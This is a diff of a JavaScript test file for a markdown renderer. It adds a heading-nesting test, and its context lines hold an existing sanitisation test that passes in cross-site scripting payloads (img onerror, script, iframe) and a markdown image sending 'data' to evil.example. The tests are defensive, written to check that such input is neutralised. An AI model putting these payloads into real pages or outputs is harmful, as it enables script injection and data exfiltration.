@@ -17,6 +17,12 @@ describe('renderMarkdown', () => {
     expect(container.querySelector('td')?.textContent).toBe('1');
   });
 
+  it("nests the model's headings under the request's own (an h2 in the side panel and in the trace viewer)", () => {
+    const container = renderInto('# Your order\n\nTwo mugs.\n\n## Shipping\n\nTomorrow.\n\n#### Note\n\nSetext\n------');
+    const headings = [...container.querySelectorAll('h1, h2, h3, h4, h5, h6')].map((heading) => `${heading.tagName}:${heading.textContent}`);
+    expect(headings).toEqual(['H3:Your order', 'H4:Shipping', 'H6:Note', 'H4:Setext']);
+  });
+
   it('shows raw HTML as text and renders no image or script', () => {
     const container = renderInto(
       'Look <img src=x onerror="alert(1)"> here\n\n<script>alert(2)</script>\n\n![secret](https://evil.example/?q=data)\n\n<iframe src="https://evil.example"></iframe>',
